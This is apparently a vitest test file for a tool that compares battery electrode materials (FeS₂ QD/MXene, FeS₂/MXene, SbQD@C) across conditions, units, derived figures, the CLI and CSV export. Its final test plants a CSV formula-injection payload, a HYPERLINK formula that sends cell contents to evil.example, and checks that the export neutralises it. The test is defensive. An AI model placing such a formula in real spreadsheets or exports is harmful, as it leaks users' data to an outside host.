/**
 * Electrode comparison against the real seed in a real SQLite file: alignment by conditions,
 * canonical units with the reported value kept, best values, derived figures, name resolution,
 * errors, and the CLI answering the same table as the library.
 */
import { describe, it, expect, beforeAll, afterAll } from "vitest";
import { createTestDatabase, type TestDatabase } from "../helpers/db";
import { matlit } from "../helpers/cli";
import { loadSeed } from "../../seed/load";
import { compareMaterials, comparisonToCsv, CompareError, idsFromParams, standInGap, type Comparison, type CompareRow } from "../../lib/compare";
import { scatterData } from "../../lib/compare/scatter";
import { unitChoices } from "../../lib/units/choices";
import { applyAffine } from "../../lib/units/affine";
import { PROPERTIES } from "../../lib/units";
import { importRecords, validateRecordFile } from "../../lib/records";
import { csvCells, validFile } from "../helpers/records";

const QD = "10.1007/s40820-025-01858-2/fes2-qd-mxene";
const BULK = "10.1007/s40820-025-01858-2/fes2-mxene";
const SB = "10.1002/smtd.202100188/sbqd-c";

let t: TestDatabase;
let c: Comparison;

beforeAll(async () => {
  t = await createTestDatabase();
  await loadSeed(t.prisma);
  c = await compareMaterials(t.prisma, [QD, BULK, SB]);
});
afterAll(async () => t?.cleanup());

const rows = (key: string) => c.properties.find((g) => g.property.key === key)?.rows ?? [];
const rowAt = (key: string, where: Partial<CompareRow["conditions"]>) =>
  rows(key).filter((r) => Object.entries(where).every(([k, v]) => r.conditions[k as keyof CompareRow["conditions"]] === v));

async function expectCompareError(ids: string[], message: RegExp, field?: string) {
  const error = await compareMaterials(t.prisma, ids).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(CompareError);
  expect((error as CompareError).message).toMatch(message);
  if (field) expect((error as CompareError).field).toBe(field);
  return error as CompareError;
}

describe("comparing FeS₂ QD/MXene, FeS₂/MXene and SbQD@C", () => {
  it("lists the materials in the order given, with their papers", () => {
    expect(c.materials.map((m) => m.ref)).toEqual([QD, BULK, SB]);
    expect(c.materials.map((m) => m.name)).toEqual(["FeS₂ QD/MXene", "FeS₂/MXene", "SbQD@C"]);
    expect(c.materials[2]!.paper.doi).toBe("10.1002/smtd.202100188");
    expect(c.materials[0]!.path).toBe(`/materials/${QD}`);
  });

  it("groups rows by property in catalogue order", () => {
    const order = PROPERTIES.map((p) => p.key);
    const keys = c.properties.map((g) => g.property.key);
    expect(keys[0]).toBe("specific_capacity");
    expect([...keys].sort((a, b) => order.indexOf(a) - order.indexOf(b))).toEqual(keys);
    for (const g of c.properties) for (const r of g.rows) expect(r.cells).toHaveLength(3);
  });

  it("puts capacities at the same current density, temperature and cycle side by side", () => {
    // 0.1 A g⁻¹, room temperature, no cycle number: FeS₂ QD/MXene 464.3 (25 °C) beside SbQD@C 573 (temperature unstated).
    const [room] = rowAt("specific_capacity", { currentDensity: 0.1, temperature: 25, cycle: null });
    expect(room).toBeDefined();
    expect(room!.cells[0]).toMatchObject({ value: 464.3, likeForLike: true, assumedRoomTemperature: false });
    expect(room!.cells[2]).toMatchObject({ value: 573, likeForLike: true, assumedRoomTemperature: true, best: true });
    expect(room!.conditionsText).toBe("0.1 A g⁻¹ · 25 °C (or unstated)");
    expect(room!.best).toEqual([2]);
    expect(room!.bestAmong).toBe("like-for-like");

    // 0.1 A g⁻¹, −35 °C, cycle 100: FeS₂ QD/MXene 255.2 against FeS₂/MXene 30.3, both stated there.
    const [cold] = rowAt("specific_capacity", { currentDensity: 0.1, temperature: -35, cycle: 100 });
    expect(cold!.cells[0]).toMatchObject({ value: 255.2, likeForLike: true, best: true });
    expect(cold!.cells[1]).toMatchObject({ value: 30.3, likeForLike: true, best: false });
    expect(cold!.cells[2]).toBeNull(); // SbQD@C was never tested cold: nothing close enough stands in

    // SbQD@C's rate test: one row per current density, 0.1 → 5 A g⁻¹.
    for (const [current, value] of [
      [0.2, 478],
      [0.5, 462],
      [2, 404],
      [5, 278],
    ] as const) {
      const [row] = rowAt("specific_capacity", { currentDensity: current, cycle: null });
      expect(row!.cells[2]).toMatchObject({ value, likeForLike: true });
    }
  });

  it("lets a nearest measurement stand in only inside the window, marked, said so and never ranked", () => {
    // SbQD@C's rate test at 0.2 A g⁻¹: FeS₂ QD/MXene's 464.3 at 0.1 A g⁻¹ (×2) stands in.
    const [near] = rowAt("specific_capacity", { currentDensity: 0.2, cycle: null });
    const standIn = near!.cells[0]!;
    expect(standIn).toMatchObject({ value: 464.3, likeForLike: false, best: false });
    expect(standIn.conditions.currentDensity).toBe(0.1);
    expect(standIn.differences).toEqual(["measured at 0.1 A g⁻¹, within ×3 of the row's 0.2 A g⁻¹"]);
    expect(near!.likeForLike).toBe(false);
    expect(near!.best).toEqual([]); // one like-for-like cell: nothing to rank it against

    // At 0.5 A g⁻¹ and beyond (×5 and more) it no longer does.
    for (const current of [0.5, 1, 2, 5]) {
      const [far] = rowAt("specific_capacity", { currentDensity: current, cycle: null });
      expect(far!.cells[0], `${current} A g⁻¹`).toBeNull();
    }
    // Nor does a rate-test value for a cycled row, nor cycle 100 for cycle 160 (×1.6).
    expect(rowAt("specific_capacity", { currentDensity: 0.1, cycle: 160 })[0]!.cells[0]).toBeNull();

    // Every stand-in of the comparison is inside the window, and every aligned row is like-for-like.
    for (const g of c.properties)
      for (const r of g.rows) {
        if (r.likeForLike) expect(r.cells.every((x) => x?.likeForLike)).toBe(true);
        for (const cell of r.cells) if (cell && !cell.likeForLike) expect(standInGap(r.conditions, cell.conditions)).not.toBeNull();
      }
  });

  it("labels rows under the same conditions by what tells them apart", () => {
    for (const g of c.properties) {
      const labels = g.rows.map((r) => `${r.conditionsText} ${r.distinction ?? ""}`);
      expect(new Set(labels).size, g.property.key).toBe(labels.length);
    }
    // SbQD@C's three b-values, one per redox peak: the subject tells them apart.
    expect(rows("b_value").map((r) => r.distinction)).toEqual(["b-value, redox peak 1 of 3", "b-value, redox peak 2 of 3", "b-value, redox peak 3 of 3"]);
    // Two capacities at 1 A g⁻¹ and cycle 100 told apart by the record's note only where there is one.
    expect(rowAt("specific_capacity", { currentDensity: 1, cycle: 100 }).map((r) => r.distinction)).toEqual([
      "measurement 1 of 2",
      "Rounded form of the 374.8 mAh g−1 reported with Fig. 7b.",
    ]);
    // Ex situ XPS peaks: subject and the condition that differs (not the half cell they share).
    const xps = rows("binding_energy_xps").filter((r) => r.conditions.cycle === 1);
    expect(xps.map((r) => r.distinction)).toContain("Ti–O 2p3/2 · ex situ XPS, discharged to 0.01 V");
    expect(xps.every((r) => !r.distinction!.includes("half cell"))).toBe(true);
    // A row alone under its conditions needs no label.
    expect(rowAt("specific_capacity", { currentDensity: 5 })[0]!.distinction).toBeNull();
  });

  it("normalises to the canonical unit and keeps the reported value and quote", () => {
    // SbQD@C's cycling capacity is reported at "1000 mA g-1"; it aligns on 1 A g⁻¹.
    const [row] = rowAt("specific_capacity", { currentDensity: 1, cycle: 100 });
    const cell = row!.cells[2]!;
    expect(cell.value).toBe(374.8);
    expect(cell.reported.unit).toBe("mAh g−1");
    expect(cell.display).toBe("374.8 mAh g⁻¹");
    expect(cell.quote).toMatch(/374\.8/);
    expect(rows("diffusion_coefficient")[0]!.unit).toBe("cm^2/s");
  });

  it("marks the best value by the property's direction (lower resistance wins)", () => {
    const [rct] = rows("charge_transfer_resistance");
    expect(rct!.cells[0]!.value).toBe(193);
    expect(rct!.cells[1]!.value).toBe(734.1);
    expect(rct!.best).toEqual([0]);
    const [surface] = rows("specific_surface_area");
    expect(surface!.best).toEqual([2]);
  });

  it("carries each material's recomputed figures with formula key and inputs", () => {
    const [qd, bulk, sb] = c.figures;
    // SbQD@C: rate retention at every current density of its rate test against 0.1 A g⁻¹.
    const rate = sb!.derived.filter((d) => d.label.startsWith("rate retention"));
    expect(rate.map((d) => d.label)).toContain("rate retention at 5 A g⁻¹ vs 0.1 A g⁻¹");
    const at5 = rate.find((d) => d.label === "rate retention at 5 A g⁻¹ vs 0.1 A g⁻¹")!;
    expect(at5.formula).toBe("capacity_retention");
    expect(at5.formulaPath).toBe("/formulas#capacity_retention");
    expect(at5.value).toBeCloseTo((278 / 573) * 100, 6);
    expect(at5.inputs.map((i) => [i.name, i.value])).toEqual([
      ["C_n", 278],
      ["C_0", 573],
    ]);
    expect(at5.inputs[0]!.quote).toMatch(/278/);
    // SbQD@C's audit flag (the O 1s shift of 1.2 eV between 532.5 and 531.4 eV) comes along.
    expect(sb!.flags.map((f) => f.formula)).toContain("binding_energy_shift");

    // FeS₂ QD/MXene: its record holds the rate test only at 0.1 A g⁻¹ (per temperature), so no
    // rate retention; its temperature retention is recomputed instead.
    expect(qd!.derived.some((d) => d.label.startsWith("rate retention"))).toBe(false);
    const cold = qd!.derived.find((d) => d.label === "capacity at −35 °C relative to 25 °C (0.1 A g⁻¹, cycle 100)")!;
    expect(cold.value).toBeCloseTo((255.2 / 463.8) * 100, 6);
    // Its first-cycle 1200.2 mAh g⁻¹ is an initial charge capacity, not a reversible one: no cycling retention is made of it.
    expect(qd!.derived.some((d) => d.formula === "capacity_retention" && /cycle \d+ against cycle/.test(d.label))).toBe(false);

    // FeS₂/MXene: two capacities under different conditions, nothing to recompute; the notes say so.
    expect(bulk!.derived).toEqual([]);
    expect(c.notes.join(" ")).toMatch(/FeS₂\/MXene: its record holds no inputs/);
  });

  it("gives chart series: capacity vs current density and vs temperature", () => {
    const sbRate = c.charts.rate.rateTest.filter((p) => p.materialIndex === 2).map((p) => [p.x, p.y]);
    // Stated numbers only (514 and 403.9 are the record author's back-calculations).
    expect(sbRate).toEqual([
      [0.1, 573],
      [0.2, 478],
      [0.5, 462],
      [1, 434],
      [2, 404],
      [5, 278],
    ]);
    const qdTemps = c.charts.temperature.points.filter((p) => p.materialIndex === 0).map((p) => p.x);
    expect(new Set(qdTemps)).toEqual(new Set([-35, 25, 65]));
    // As the table aligns it, an unstated temperature is room temperature, and the point says so.
    const sb = c.charts.temperature.points.filter((p) => p.materialIndex === 2);
    expect(sb.length).toBeGreaterThan(0);
    for (const p of sb) expect(p).toMatchObject({ x: 25, note: "temperature unstated: room temperature, 25 °C" });
    // Each point carries its cycle, so first-cycle, later and rate-test values can be told apart.
    const qd = c.charts.temperature.points.filter((p) => p.materialIndex === 0);
    expect(qd.find((p) => p.y === 255.2)).toMatchObject({ x: -35, cycle: 100, note: null });
    expect(qd.find((p) => p.y === 235.3)).toMatchObject({ x: -35, cycle: null });
  });

  it("exports one CSV line per cell, plus the derived figures", async () => {
    const csv = await comparisonToCsv(c);
    const lines = csv.trim().split("\n");
    expect(lines[0]).toMatch(/^property,property_label,row_conditions/);
    const cells = c.properties.reduce((n, g) => n + g.rows.reduce((k, r) => k + r.cells.filter(Boolean).length, 0), 0);
    const derived = c.figures.reduce((n, f) => n + f.derived.length, 0);
    expect(csv).toContain("derived:capacity_retention");
    expect(lines.length).toBeGreaterThanOrEqual(1 + cells + derived);
  });
});

describe("naming the materials", () => {
  it("accepts names case- and script-insensitively, numeric ids and refs alike", async () => {
    const byName = await compareMaterials(t.prisma, ["fes2 qd/mxene", "FeS₂/MXene", "sbqd@c"]);
    expect(byName.materials.map((m) => m.ref)).toEqual([QD, BULK, SB]);
    const id = c.materials[2]!.id;
    const byId = await compareMaterials(t.prisma, [QD, String(id)]);
    expect(byId.materials.map((m) => m.ref)).toEqual([QD, SB]);
    // Same table whatever the spelling.
    expect(JSON.stringify(byName.properties)).toBe(JSON.stringify(c.properties));
  });

  it("reads ids=A&ids=B and ids=A,B", () => {
    expect(idsFromParams(new URLSearchParams(`ids=${QD}&ids=${SB}`))).toEqual([QD, SB]);
    expect(idsFromParams(new URLSearchParams(`ids=${QD},${SB}`))).toEqual([QD, SB]);
  });

  it("refuses an ambiguous name, listing the candidates", async () => {
    const e = await expectCompareError(["NVP", SB], /"NVP" names 2 materials/, "ids[0]");
    expect(e.candidates!.map((x) => x.ref).sort()).toEqual(["10.1007/s40820-025-01858-2/nvp", "10.1007/s40820-026-02236-2/nvp"]);
    expect(e.message).toContain("10.1007/s40820-026-02236-2/nvp");
  });

  it("names an unknown material", async () => {
    const e = await expectCompareError([QD, "unobtainium"], /no material matches "unobtainium"/, "ids[1]");
    expect(e.code).toBe("not_found");
    await expectCompareError([QD, "10.1007/s40820-025-01858-2/no-such"], /no-such/, "ids[1]");
    await expectCompareError([QD, "999999"], /no material has id 999999/, "ids[1]");
  });

  it("needs 2 to 8 distinct materials", async () => {
    await expectCompareError([QD], /at least 2 materials \(got 1\)/, "ids");
    await expectCompareError([], /at least 2/, "ids");
    const nine = (await t.prisma.material.findMany({ take: 9, select: { id: true } })).map((m) => String(m.id));
    await expectCompareError(nine, /at most 8 materials \(got 9\)/, "ids");
    await expectCompareError([QD, "FeS2 QD/MXene"], /same material/, "ids[1]");
  });
});

describe("units and the knowledge-base scatter", () => {
  it("offers compatible units and converts like lib/units", () => {
    const convertFor = (value: number, canonical: string, unit: string) =>
      applyAffine(unitChoices(canonical, "").find((c) => c.value === unit)!.fromCanonical, value);
    expect(unitChoices("mAh/g", "mAh g⁻¹").map((u) => u.value)).toEqual(["mAh/g", "Ah/kg"]);
    expect(unitChoices("percent", "%").map((u) => u.value)).toEqual(["percent", ""]);
    expect(unitChoices("eV", "eV").map((u) => u.value)).toEqual(["eV", "meV", "kJ/mol"]);
    // A dimensionless property is a number of its own kind: 160 cycles never become "16000 %".
    for (const key of ["cycle_life", "b_value", "transference_number"]) {
      const def = PROPERTIES.find((p) => p.key === key)!;
      expect(
        unitChoices(def.unit, def.display).map((u) => u.label),
        key,
      ).toEqual([def.display]);
    }
    expect(convertFor(573, "mAh/g", "Ah/kg")).toBe(573);
    expect(convertFor(95.9, "percent", "")).toBeCloseTo(0.959, 12);
    expect(convertFor(0.15, "eV", "kJ/mol")).toBeCloseTo(14.473, 3);
    expect(convertFor(1.17e-8, "cm^2/s", "m^2/s")).toBeCloseTo(1.17e-12, 20);
    expect(convertFor(25, "degC", "K")).toBeCloseTo(298.15, 9);
  });

  it("plots capacity against current density for the whole knowledge base", async () => {
    const s = await scatterData(t.prisma);
    expect(s.x).toMatchObject({ key: "condition:currentDensity", unit: "A/g", log: true });
    expect(s.y).toMatchObject({ key: "specific_capacity", unit: "mAh/g" });
    expect(s.points.some((p) => p.ref === SB && p.x === 5 && p.y === 278)).toBe(true);
    expect(new Set(s.points.map((p) => p.ref)).size).toBeGreaterThan(5);
    const pair = await scatterData(t.prisma, "charge_transfer_resistance", "diffusion_coefficient");
    expect(pair.points.find((p) => p.ref === QD)).toMatchObject({ x: 193, y: 1.17e-8 });
    expect(s.sampleEvery).toBe(1);
    // An unstated temperature is room temperature, as in the table, and the point says so.
    const byTemperature = await scatterData(t.prisma, "condition:temperature", "specific_capacity");
    expect(byTemperature.points.find((p) => p.ref === SB && p.y === 278)).toMatchObject({
      x: 25,
      conditionsText: expect.stringContaining("temperature unstated"),
    });
    await expect(scatterData(t.prisma, "condition:temperature", "condition:cycle")).rejects.toThrow(/at least one axis must be a property/);
    await expect(scatterData(t.prisma, "nope", "specific_capacity")).rejects.toThrow(/unknown axis "nope"/);
  });

  it("samples the rest of a large knowledge base but keeps every point of the compared materials", async () => {
    const all = await scatterData(t.prisma);
    const qd = c.materials.find((m) => m.ref === QD)!;
    const qdPoints = all.points.filter((p) => p.ref === QD);
    const s = await scatterData(t.prisma, undefined, undefined, { highlight: [qd.id], limit: 10 });
    expect(s.sampleEvery).toBeGreaterThan(1);
    expect(s.points.filter((p) => p.ref === QD)).toEqual(qdPoints);
    const background = s.points.filter((p) => p.ref !== QD);
    expect(background.length).toBeGreaterThan(0);
    expect(new Set(background.map((p) => p.ref)).size).toBeLessThanOrEqual(10);
    expect(background.every((p) => all.points.some((q) => q.ref === p.ref && q.x === p.x && q.y === p.y))).toBe(true);
  });
});

describe("matlit compare", () => {
  it("prints the same table as the library with --json", async () => {
    const out = await matlit(["compare", QD, "FeS2/MXene", "SbQD@C", "--json"], t.url);
    expect(out.status, out.stderr).toBe(0);
    expect(JSON.parse(out.stdout)).toEqual(JSON.parse(JSON.stringify(c)));
  });

  it("prints a readable table without --json", async () => {
    const out = await matlit(["compare", `${QD},${SB}`], t.url);
    expect(out.status, out.stderr).toBe(0);
    expect(out.stdout).toContain("Specific capacity (mAh g⁻¹), higher is better");
    expect(out.stdout).toMatch(/0\.1 A g⁻¹ · 25 °C \(or unstated\)\s+\[1\] 464\.3\s+\[2\] 573★/);
  });

  it("fails with a JSON error naming the field", async () => {
    const out = await matlit(["compare", "NVP", SB, "--json"], t.url);
    expect(out.status).not.toBe(0);
    const body = JSON.parse(out.stdout) as { error: { message: string; field: string } };
    expect(body.error.field).toBe("ids[0]");
    expect(body.error.message).toMatch(/names 2 materials/);
    const single = await matlit(["compare", QD], t.url);
    expect(single.status).not.toBe(0);
    expect(single.stderr).toMatch(/at least 2 materials/);
  });
});

// Last: it adds a paper to the shared database the tests above read.
describe("the CSV download", () => {
  it("neutralises names and quotes a spreadsheet would run as formulas, and keeps negative numbers numbers", async () => {
    const file = validFile("10.1234/csv.injection");
    const material = file.papers[0]!.materials![0]!;
    material.name = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
    material.measurements!.push({ property: "adsorption_energy", value: -1.25, unit: "eV", quote: "@SUM(1+1) an adsorption energy of -1.25 eV" });
    await importRecords(t.prisma, validateRecordFile(file));
    const comparison = await compareMaterials(t.prisma, [QD, "10.1234/csv.injection/fes2-anode"]);
    const [header, ...rows] = csvCells(await comparisonToCsv(comparison));
    const column = (name: string) => header!.indexOf(name);
    const adsorption = rows.find((r) => r[column("property")] === "adsorption_energy" && r[column("material_ref")] === "10.1234/csv.injection/fes2-anode")!;
    expect(adsorption[column("material_name")]).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"open")`);
    expect(adsorption[column("quote")]).toBe("'@SUM(1+1) an adsorption energy of -1.25 eV");
    expect(adsorption[column("value")]).toBe("-1.25");
    expect(adsorption[column("reported_value")]).toBe("-1.25");
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});
